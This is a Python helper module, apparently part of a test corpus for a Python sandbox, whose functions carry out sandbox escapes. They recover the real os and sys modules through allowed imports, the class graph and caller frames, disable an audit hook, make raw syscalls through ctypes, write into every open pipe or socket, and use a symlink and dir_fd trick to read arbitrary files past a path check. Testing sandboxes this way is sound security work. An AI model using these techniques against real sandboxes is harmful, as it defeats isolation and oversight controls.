"""The attacker's toolkit: helpers prepended to every hostile module of the corpus.

Nothing here runs at load time; the helpers reach what the sandbox tries to hide by the routes
an attacker would try, one after the other: allowed modules that import ``os``/``sys`` themselves,
the interpreter's class graph, the frames of the code that called ``handle``. A helper raises
when no route works, so a blocked attack ends in an error rather than in silence. Hostile
modules call them by name; the harness puts the functions a module uses in front of it.
"""


def rt_first(*routes):
    """The value of the first route (a zero-argument callable) that does not raise."""
    problems = []
    for route in routes:
        try:
            return route()
        except BaseException as exc:  # noqa: BLE001 - an attacker tries the next route
            problems.append(f"{type(exc).__name__}: {exc}")
    raise RuntimeError("every route failed: " + "; ".join(problems))


def rt_frames():
    """The frames from here up to the worker's main loop."""
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        yield frame
        frame = frame.f_back


def rt_sys():
    """The real ``sys`` module."""
    return rt_first(
        lambda: __import__("uuid").sys,
        lambda: __import__("typing").sys,
        lambda: next(
            c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"
        ).__init__.__globals__["sys"],
        lambda: next(f.f_globals["sys"] for f in rt_frames() if "sys" in f.f_globals),
    )


def rt_os():
    """The real ``os`` module."""
    return rt_first(lambda: __import__("uuid").os, lambda: __import__("random")._os, lambda: rt_sys().modules["os"])


def rt_module(name):
    """Any module: from ``sys.modules``, else imported behind the allowlist's back."""
    modules = rt_sys().modules
    if name in modules:
        return modules[name]
    return rt_first(  # the quiet routes first: no import event for a built-in module
        lambda: next(
            c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "BuiltinImporter"
        ).load_module(name),
        lambda: modules["builtins"].__import__(name),
        lambda: __import__(name),
    )


def rt_bypass():
    """Switch the in-process audit policy off with the one-liner of issue 12 (no-op where it misses)."""
    try:
        __import__.__self__.deny = lambda what: None
    except BaseException:  # noqa: BLE001, S110 - the attack goes on either way
        pass


def rt_worker():
    """The worker object that called ``handle`` (the frame whose ``self`` holds the state)."""
    for frame in rt_frames():
        candidate = frame.f_locals.get("self")
        if candidate is not None and hasattr(candidate, "state") and hasattr(candidate, "handle"):
            return candidate
    raise RuntimeError("no worker frame above handle")


def rt_ctypes():
    """``(ctypes, libc)`` after switching the audit policy off."""
    rt_bypass()
    ctypes = rt_module("ctypes")
    return ctypes, ctypes.CDLL(None, use_errno=True)


def rt_syscall(number, *args):
    """A raw system call through libc's ``syscall``; raises OSError on failure."""
    ctypes, libc = rt_ctypes()
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, rt_os().strerror(error))
    return result


def rt_pipe_fds():
    """Every open fd that is a pipe or a socket: the candidates for the protocol channel."""
    os = rt_os()
    found = []
    for fd in range(1024):
        try:
            kind = os.fstat(fd).st_mode & 0o170000
        except OSError:
            continue
        if kind in (0o010000, 0o140000):
            found.append(fd)
    return found


def rt_write_all(data):
    """Write ``data`` to every pipe or socket fd that takes it; the fds written."""
    os = rt_os()
    written = []
    for fd in rt_pipe_fds():
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view):]
            written.append(fd)
        except OSError:
            continue
    return written


def rt_dirfd_route(target):
    """``(dir_fd, relative)``: a path that a check resolving against the cwd places inside the
    scratch directory, while the kernel, resolving it against ``dir_fd`` (a standard-library
    directory, readable), reaches the absolute path ``target``.

    A symlink in the scratch directory named like a stdlib subdirectory points 40 levels deep, so
    40 ``..`` come back to the scratch directory on the checker's side and climb to ``/`` on the
    kernel's side.
    """
    os = rt_os()
    base = os.path.dirname(os.__file__)
    entry = "json" if os.path.isdir(os.path.join(base, "json")) else "encodings"
    depth = 40
    deep = "/".join(["d"] * depth)
    os.makedirs(deep, exist_ok=True)
    if not os.path.lexists(entry):
        os.symlink(deep, entry)
    directory = os.open(base, os.O_RDONLY | os.O_DIRECTORY)
    return directory, entry + "/" + "../" * depth + target.lstrip("/")


def rt_read_via_dirfd(target):
    os = rt_os()
    directory, relative = rt_dirfd_route(target)
    fd = os.open(relative, os.O_RDONLY, dir_fd=directory)
    try:
        return os.read(fd, 1 << 20).decode("utf-8", "replace")
    finally:
        os.close(fd)


def rt_ok(data=None):
    return {"success": True, "data": data}


def rt_escaped(what):
    """The reply of an attack that saw for itself that it got out."""
    return {"success": True, "data": {"escaped": what}}
